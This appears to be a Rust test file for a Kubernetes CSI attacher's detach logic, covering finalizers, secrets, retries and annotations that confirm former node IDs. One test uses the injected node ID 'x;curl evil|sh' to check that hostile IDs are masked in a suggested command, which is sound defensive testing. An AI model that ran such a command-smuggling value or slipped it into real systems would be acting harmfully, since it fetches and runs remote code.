//! Detaching: section 8.2 of the sidecar's behaviour, 18 scenarios.

use serde_json::json;

use super::builders::{FINALIZER, GCE_DRIVER, GCE_FINALIZER, NODE_ID, Va, attachment, gce_volume, volume};
use super::table::{Row, done, ends, mended, play, retried, row, tally};
use super::world::{gce_world, on_node, ready, world};
use crate::api::names::NOT_ATTACHED_AT_ANNOTATION;
use crate::decide::{self, Failure, SecretState, VolumeOnNode, observe};

const OTHER: &str = "someone/else";

/// A deleted attachment that was attached. Another finalizer keeps the object after ours, so that the second write can be
/// seen; without it the object goes with the first (see `the_object_goes_with_our_finalizer`).
fn detaching() -> Va {
    attachment()
        .finalizers(&[FINALIZER, OTHER])
        .noted_node(NODE_ID)
        .attached()
        .deleting()
}

fn gce_detaching() -> Va {
    detaching()
        .finalizers(&[GCE_FINALIZER, OTHER])
        .set("/spec/attacher", GCE_DRIVER)
}

fn successes() -> Vec<Vec<Row>> {
    let detached = "unpub handle1 nodeID1 | FIN- | DET";
    let filled = r#"SEC(secret) | unpub handle1 nodeID1 secrets{"foo": "bar"} | FIN- | DET"#;
    let empty = "SEC(emptySecret) | unpub handle1 nodeID1 secrets{} | FIN- | DET";
    let inline = |volume| world().va(detaching().inline(&volume));
    vec![
        done(detached).when(vec![
            ("deleted", ready().va(detaching())),
            ("in line", inline(volume()).node()),
        ]),
        done(filled).when(vec![
            (
                "secret; the node from the annotation",
                world().pv(volume().protected().secret("secret")).va(detaching()),
            ),
            ("in line, secret", inline(volume().secret("secret"))),
        ]),
        done(empty).when(vec![
            (
                "empty secret",
                world().pv(volume().protected().secret("emptySecret")).va(detaching()),
            ),
            ("in line, empty secret", inline(volume().secret("emptySecret"))),
        ]),
        done("").when(vec![(
            "detached already",
            ready().va(attachment().finalizers(&[OTHER]).deleting()),
        )]),
        done("unpub handle1 annotatedNodeID | FIN- | DET").when(vec![(
            "unknown node: the annotation",
            world()
                .pv(volume().protected())
                .va(detaching().noted_node("annotatedNodeID")),
        )]),
        done("unpub projects/UNSPECIFIED/zones/testZone/disks/testpd nodeID1 | FIN- | DET").when(vec![(
            "GCEPersistentDiskVolumeSource",
            gce_world()
                .pv(gce_volume().finalizers(&[GCE_FINALIZER]))
                .node()
                .va(gce_detaching()),
        )]),
    ]
}

fn refusals() -> Vec<Vec<Row>> {
    vec![
        vec![row(
            "missing secret",
            on_node(volume().protected().secret("unknownSecret")).va(detaching()),
            "SEC(unknownSecret) | DERR(failed to load secret \"default/unknownSecret\": secrets \"unknownSecret\" not found)",
            "R",
        )],
        ends(
            "RR",
            "DERR(persistentvolume \"pv1\" not found) | DERR(persistentvolume \"pv1\" not found)",
        )
        .when(vec![("unknown volume", world().node().va(detaching()))]),
        vec![row(
            "unknown volume, and the error cannot be saved",
            world().node().va(detaching()).refuse_attachment(&[1, 2]),
            "DERR(persistentvolume \"pv1\" not found) 403 | DERR(persistentvolume \"pv1\" not found) 403 \
             | DERR(persistentvolume \"pv1\" not found) | DERR(persistentvolume \"pv1\" not found)",
            "RRRR",
        )],
        retried("DERR(neither InlineCSIVolumeSource nor PersistentVolumeName specified in VA source)")
            .when(vec![("no source", ready().va(detaching().source(json!({}))))]),
        retried("DERR(both InlineCSIVolumeSource and PersistentVolumeName specified in VA source)").when(vec![(
            "both sources",
            ready().va(detaching().source(json!({"persistentVolumeName": "pv1", "inlineVolumeSpec": {}}))),
        )]),
        retried("DERR(csinode.storage.k8s.io \"node1\" not found)").when(vec![(
            "unknown node and no annotation",
            world()
                .pv(volume().protected())
                .va(attachment().finalizers(&[FINALIZER]).attached().deleting()),
        )]),
    ]
}

fn retries() -> Vec<Vec<Row>> {
    let failed = |message: &str| ready().va(detaching()).answer(Err(Failure::plain(message)));
    vec![
        mended("unpub handle1 nodeID1 | DERR(mock error) | unpub handle1 nodeID1 | FIN- | DET")
            .when(vec![("call fails", failed("mock error"))]),
        vec![row(
            "call times out",
            failed("context deadline exceeded"),
            "unpub handle1 nodeID1 | DERR(context deadline exceeded) | unpub handle1 nodeID1 | FIN- | DET",
            "RF",
        )],
        vec![row(
            "finalizer cannot be removed: the call is made again",
            ready().va(detaching()).refuse_attachment(&[1]),
            "unpub handle1 nodeID1 | FIN- 403 | DERR(could not mark as detached: volumeattachments.storage.k8s.io \
             \"pv1-node1\" is forbidden: Mock error) | unpub handle1 nodeID1 | FIN- | DET",
            "RF",
        )],
    ]
}

#[test]
fn detaching_volumes() {
    let rows = [successes(), refusals(), retries()];
    let count = play(rows.into_iter().flatten().collect());
    tally("8.2", "detach", count);
}

/// A detach of handle1 that was formerly at these places.
fn of_former(places: &[(&str, &str)]) -> Va {
    let places = places.iter();
    let former: Vec<_> = places
        .map(|(handle, node_id)| json!({"handle": handle, "nodeID": node_id}))
        .collect();
    detaching().noted_volume(&json!({"handle": "handle1", "former": former}))
}

/// Whoever pastes it confirms this place, and takes back nothing. Whoever registers a node chooses its ID, and whoever writes a
/// PersistentVolume its handle: a command has no word of them that a shell does not take as it is.
#[test]
fn a_place_is_confirmed_beside_those_that_are_confirmed() {
    let long = "h".repeat(2_000);
    let [a, b, both] = ["a", "b", "a,b"].map(|id| ("handle1", id));
    let (hostile, slash) = (("handle1", "x;curl evil|sh"), ("handle1", "form-1/id"));
    let (other, quote, too_long) = (("handle0", "nodeID1"), ("it's", "nodeID1"), (&*long, "nodeID1"));
    // The former places, what the annotation is, the place to be confirmed, and what the annotation has to be.
    for (former, said, place, list) in [
        (vec![a, b], "", b, Some("b")),
        (vec![a, b], "a", b, Some("a,b")),
        (vec![a, b], "?", b, Some("b")),
        (vec![a, b, both], "a,b", a, Some("a,b,a")),
        // It would be read as the third one.
        (vec![a, b, both], "a", b, None),
        (vec![a, other], "a", other, Some("a,handle0@nodeID1")),
        (vec![slash], "", slash, Some("form-1/id")),
        (vec![hostile, b], "x;curl evil|sh", b, Some("ID,b")),
        (vec![hostile], "", hostile, Some("ID")),
        (vec![quote], "", quote, Some("HANDLE@nodeID1")),
        (vec![too_long], "", too_long, Some("HANDLE@nodeID1")),
        (vec![a], "a", ("handle1", "nodeID1"), None),
    ] {
        let attachment = of_former(&former).annotation(NOT_ATTACHED_AT_ANNOTATION, said);
        let world = ready().node().va(attachment);
        let snapshot = world.snapshot().unwrap();
        let observed = observe(&snapshot, &world.driver, &world.policy, SecretState::Loaded);
        let place = VolumeOnNode::new(place.0, place.1).unwrap();
        let confirmation = decide::confirmation(&observed, place);
        assert_eq!(confirmation.as_deref(), list, "{former:?} {said:?} {place:?}");
    }
}

/// What the sidecar has no test for, and where we differ.
#[test]
#[allow(clippy::too_many_lines, reason = "a table")]
fn detaching_with_care() {
    let note = json!({"handle": "handle1", "secret": {"namespace": "default", "name": "secret"}});
    let replaced = |volume| on_node(volume).va(detaching().noted_volume(&json!({"handle": "handle1"})));
    let of_former_handle = || of_former(&[("handle0", "nodeID1")]);
    play(vec![
        // A merge patch of the owner of the other finalizer replaced the list.
        done("unpub handle1 nodeID1 | DET").when(vec![(
            "somebody took our finalizer off before the detach",
            ready().va(detaching().finalizers(&[OTHER])),
        )]),
        // As when the process ends between the two writes.
        ends(
            "RF",
            "unpub handle1 nodeID1 | FIN- | DET 403 | DERR(could not mark as detached: volumeattachments.storage.k8s.io \
             \"pv1-node1\" is forbidden: Mock error)",
        )
        .when(vec![
            (
                "what was let go is not detached again, though its status says that it is attached",
                ready().va(detaching().noted_volume(&note)).refuse_attachment(&[2]),
            ),
            (
                "nor is what the sidecar attached",
                ready().va(detaching()).refuse_attachment(&[2]),
            ),
        ]),
        done("").when(vec![(
            "nothing was called for",
            ready().va(attachment().attached().finalizers(&[OTHER]).deleting()),
        )]),
        done("unpub handle1 nodeID1 | FIN-").when(vec![
            (
                "the object goes with our finalizer, and nothing is left to write on",
                ready().va(attachment().claimed().attached().deleting()),
            ),
            (
                "never published, or so it seems: the finalizer decides",
                ready().va(attachment().claimed().deleting()),
            ),
        ]),
        done(r#"SEC(secret) | unpub handle1 nodeID1 secrets{"foo": "bar"} | FIN- | DET"#).when(vec![(
            "a volume that was removed by force is detached by the note, with its secret",
            world().node().va(detaching().noted_volume(&note)),
        )]),
        retried(
            "DERR(annotation attacher.csi.dev/volume of VolumeAttachment pv1-node1 cannot be read, so that nothing says for certain where \
             the volume may be; if another version of the operator wrote it, run that version; else find out where the volume is \
             attached, and run kubectl annotate --overwrite volumeattachment pv1-node1 \
             'attacher.csi.dev/volume={\"handle\":\"ID\"}')",
        )
        .when(vec![(
            "a note that cannot be read is not taken for none",
            ready().va(detaching().noted_volume(&json!("?"))),
        )]),
        done("unpub handle1 nodeID1 | FIN- | DET").when(vec![
            (
                "a volume that was made again under the name with another handle is not the one to detach",
                replaced(volume().set("/spec/csi/volumeHandle", "handle2")),
            ),
            (
                "nor is a volume of an in-tree plug-in that has the name",
                replaced(volume().in_tree("cinder")),
            ),
            (
                "an ID with a comma is confirmed alone",
                ready().node().va(detaching()
                    .noted_volume(&json!({"handle": "handle1", "former": [{"handle": "handle1", "nodeID": "a,b"}]}))
                    .annotation(NOT_ATTACHED_AT_ANNOTATION, "a,b")),
            ),
            (
                "a former handle, where the node is now, is confirmed with the ID",
                ready()
                    .node()
                    .va(of_former_handle().annotation(NOT_ATTACHED_AT_ANNOTATION, "handle0@nodeID1")),
            ),
            (
                "at the only place that is known nobody can confirm it",
                ready()
                    .node_of(None)
                    .va(detaching().annotation(NOT_ATTACHED_AT_ANNOTATION, "nodeID1")),
            ),
            (
                "CSINode without the driver: the annotation",
                ready().node_of(None).va(detaching()),
            ),
            (
                "a volume that is being deleted is detached",
                on_node(volume().protected().deleting()).va(detaching()),
            ),
        ]),
        vec![row(
            "an in-tree volume that cannot be translated",
            gce_world()
                .pv(gce_volume().set("/metadata/labels/failure-domain.beta.kubernetes.io~1zone", "a__b"))
                .node()
                .va(gce_detaching()),
            "DERR(failed to translate in tree pv to CSI: failed to get region from zones: zone in unexpected format, \
             expected: {locale}-{region}-{zone}, got: a)",
            "R",
        )],
        done("unpub as it was nodeID1 | FIN- | DET").when(vec![(
            "an in-tree volume whose zone label changed since it was attached is detached by the note",
            gce_world()
                .pv(gce_volume().set("/metadata/labels/failure-domain.beta.kubernetes.io~1zone", "a__b"))
                .node()
                .va(gce_detaching().noted_volume(&json!({"handle": "as it was"}))),
        )]),
        done("unpub handle1 nodeID2 | unpub handle1 nodeID1 | FIN- | DET").when(vec![
            (
                "the CSINode comes first, as in the sidecar, and the old ID of a node that came back with another one",
                ready().node_of(Some("nodeID2")).va(detaching()),
            ),
            (
                "where the node is now nobody can confirm it",
                ready()
                    .node_of(Some("nodeID2"))
                    .va(detaching().annotation(NOT_ATTACHED_AT_ANNOTATION, "nodeID2")),
            ),
        ]),
        done("unpub handle1 nodeID2 | FIN- | DET").when(vec![(
            "a person confirms that the volume is not at a former ID of the node",
            ready()
                .node_of(Some("nodeID2"))
                .va(detaching().annotation(NOT_ATTACHED_AT_ANNOTATION, "nodeID1")),
        )]),
        done("unpub handle1 nodeID2 | unpub handle1 a,b | FIN- | DET").when(vec![(
            "a person confirms that of several former IDs",
            ready().node_of(Some("nodeID2")).va(detaching()
                .noted_volume(&json!({"handle": "handle1", "former": [
                    {"handle": "handle1", "nodeID": "a,b"}, {"handle": "handle1", "nodeID": "nodeID0"},
                ]}))
                .annotation(NOT_ATTACHED_AT_ANNOTATION, "nodeID1, nodeID0")),
        )]),
        done("unpub handle1 nodeID1 | unpub handle1 w | FIN- | DET").when(vec![
            (
                "of an ID that begins with another one, that one is confirmed alone",
                ready()
                    .node()
                    .va(of_former(&[("handle1", "w"), ("handle1", "w,10")])
                        .annotation(NOT_ATTACHED_AT_ANNOTATION, "w,10")),
            ),
            (
                "of an ID that ends with another one as well, beside a name of no place",
                ready().node().va(of_former(&[("handle1", "w"), ("handle1", "10,w")])
                    .annotation(NOT_ATTACHED_AT_ANNOTATION, "10,w , ww")),
            ),
        ]),
        done("unpub handle1 nodeID1 | FIN- | DET").when(vec![(
            "both of them are confirmed in a list",
            ready()
                .node()
                .va(of_former(&[("handle1", "w"), ("handle1", "w,10")])
                    .annotation(NOT_ATTACHED_AT_ANNOTATION, " w,10 , w")),
        )]),
        done("unpub handle1 w,10 | unpub handle1 w | FIN- | DET").when(vec![(
            "what is said of the ID of now says nothing of one with which it begins",
            ready().node_of(Some("w,10")).va(of_former(&[("handle1", "w")])
                .noted_node("w,10")
                .annotation(NOT_ATTACHED_AT_ANNOTATION, "w,10")),
        )]),
        done("unpub handle1 nodeID1 | unpub b nodeID1 | FIN- | DET").when(vec![(
            "a handle with a comma is confirmed alone",
            ready()
                .node()
                .va(of_former(&[("a,b", "nodeID1"), ("b", "nodeID1")])
                    .annotation(NOT_ATTACHED_AT_ANNOTATION, "a,b@nodeID1")),
        )]),
        done("unpub handle1 nodeID1 | unpub a nodeID1 | unpub handle1 a@nodeID1 | FIN- | DET").when(vec![(
            "a name that means two places confirms neither",
            ready()
                .node()
                .va(of_former(&[("a", "nodeID1"), ("handle1", "a@nodeID1")])
                    .annotation(NOT_ATTACHED_AT_ANNOTATION, "a@nodeID1")),
        )]),
        done("unpub handle1 nodeID1 | unpub handle0 nodeID1 | FIN- | DET").when(vec![(
            "the ID alone means the volume of now as well, which nobody can confirm",
            ready()
                .node()
                .va(of_former_handle().annotation(NOT_ATTACHED_AT_ANNOTATION, "nodeID1, handle0")),
        )]),
        done("").when(vec![(
            "of another attacher",
            ready().va(detaching().set("/spec/attacher", "other.test")),
        )]),
    ]);
}

#[test]
fn no_code_counts_as_detached() {
    for code in 1..=16 {
        let failure = Failure {
            message: format!("rpc error: {code}"),
            code: Some(code),
        };
        let mut world = ready().va(detaching()).answer(Err(failure));
        world.attempt();
        let metadata = &world.attachment.as_ref().unwrap()["metadata"];
        assert_eq!(metadata["finalizers"], json!([FINALIZER, OTHER]), "code {code}");
        let wanted = &format!("DERR(rpc error: {code})");
        assert_eq!(world.log.last().unwrap(), wanted, "and no code is written");
    }
}
